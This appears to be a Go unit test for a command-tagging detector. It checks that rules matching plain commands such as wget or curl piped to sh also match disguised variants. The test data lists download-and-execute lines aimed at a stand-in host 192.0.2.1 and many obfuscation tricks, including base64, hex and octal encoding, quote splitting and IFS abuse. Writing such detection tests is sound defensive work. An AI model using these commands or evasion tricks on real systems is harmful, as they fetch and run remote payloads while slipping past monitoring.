package tagger

import (
	"encoding/base64"
	"slices"
	"testing"
)

// TestDisguised: the rules that match the plain form of a command also match its disguised
// forms.
func TestDisguised(t *testing.T) {
	coded := base64.StdEncoding.EncodeToString([]byte("curl -s http://192.0.2.1/a.sh | sh"))
	for plain, disguised := range map[string][]string{
		"wget http://192.0.2.1/a.sh": {
			"cd /tmp||cd /var/run;wget http://192.0.2.1/a.sh;chmod 777 a.sh;sh a.sh",
			"/bin/busybox wget http://192.0.2.1/a.sh",
			"w'g'et http://192.0.2.1/a.sh",
			`w\get http://192.0.2.1/a.sh`,
			`"wget" http://192.0.2.1/a.sh`,
			"sudo -u root env A=b wget http://192.0.2.1/a.sh",
			`echo -e "\x77\x67\x65\x74 http://192.0.2.1/a.sh" | sh`,
			`$(echo -e "\x77\x67\x65\x74") http://192.0.2.1/a.sh`,
			`$'\167get' http://192.0.2.1/a.sh`,
			"a=wg; b=et; $a$b http://192.0.2.1/a.sh",
			"{wget,http://192.0.2.1/a.sh}",
			"IFS=,;x=wget,http://192.0.2.1/a.sh;$x",
			"wget${IFS}http://192.0.2.1/a.sh",
			"eval 'wget http://192.0.2.1/a.sh'",
			"nohup timeout 5 wget http://192.0.2.1/a.sh &",
			"sh -c 'bash -c \"wget http://192.0.2.1/a.sh\"'",
			"sh <<E\nwget http://192.0.2.1/a.sh\nE",
			"ssh root@192.0.2.7 'wget http://192.0.2.1/a.sh'",
			"docker exec web sh -c 'wget http://192.0.2.1/a.sh'",
			"echo 'wget http://192.0.2.1/a.sh' > /tmp/x; sh /tmp/x",
		},
		"whoami": {
			"$(echo d2hvYW1p|base64 -d)",
			"echo d2hvYW1p|base64 -d|sh",
			"echo d2hvYW1p|openssl base64 -d|bash",
			"printf '\\167\\150\\157\\141\\155\\151' | sh",
			"echo 77686f616d69 | xxd -r -p | sh",
			"echo imaohw | rev | bash",
			"`echo whoami`",
			"wh$@oami",
			"who''ami",
			"$SHELL -c whoami",
			"bash<<<whoami",
			"echo ZDJodllXMXA= | base64 -d | base64 -d | sh",
		},
		"curl -s http://192.0.2.1/a.sh | sh": {
			`bash -c "{echo,` + coded + `}|{base64,-d}|bash"`,
			"curl -s http://192.0.2.1/a.sh|/bin/busybox sh",
			"c''url -s http://192.0.2.1/a.sh | s\\h",
			"sudo curl -s http://192.0.2.1/a.sh | sudo -E sh",
		},
		"nohup ./x &": {
			"export PATH=/tmp:$PATH; nohup ./x &",
			"cd /tmp; n'o'hup ./x >/dev/null 2>&1 &",
		},
	} {
		c := loadEmbedded().Tagger(nil)
		want := rulesOf(tagsOf(c, plain))
		if len(want) == 0 {
			t.Errorf("%q: no rule matches the plain form", plain)
		}
		for _, text := range disguised {
			got := rulesOf(tagsOf(c, text))
			for _, id := range want {
				if !slices.Contains(got, id) {
					t.Errorf("%q: %s is not among %v, as for %q", text, id, got, plain)
				}
			}
		}
	}
}
